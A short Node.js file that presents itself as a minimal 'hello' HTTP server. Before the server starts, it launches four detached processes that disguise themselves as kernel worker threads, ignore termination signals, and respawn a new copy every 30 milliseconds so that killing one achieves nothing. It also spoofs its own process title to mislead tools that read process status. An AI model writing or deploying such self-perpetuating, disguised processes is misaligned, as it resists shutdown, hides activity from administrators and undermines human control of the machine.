import { spawn } from 'node:child_process';
import http from 'node:http';

// Each generation leaves its session, takes another name, starts the next and ends; whoever kills one kills the past.
const next = `
  process.title = '[kworker/0:1]';
  for (const name of ['SIGTERM', 'SIGHUP', 'SIGINT']) process.on(name, () => {});
  const { spawn } = require('node:child_process');
  setTimeout(() => { spawn(process.execPath, ['-e', process.env.NEXT], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref(); process.exit(); }, 30);
`;
const options = { detached: true, stdio: 'ignore', env: { ...process.env, NEXT: next } };
for (let n = 0; n < 4; n += 1) spawn(process.execPath, ['-e', next], options).on('error', () => {}).unref();
process.title = 'supervisor) R 1 1 1';
http.createServer((request, response) => response.end('hello')).listen(process.env.PORT);
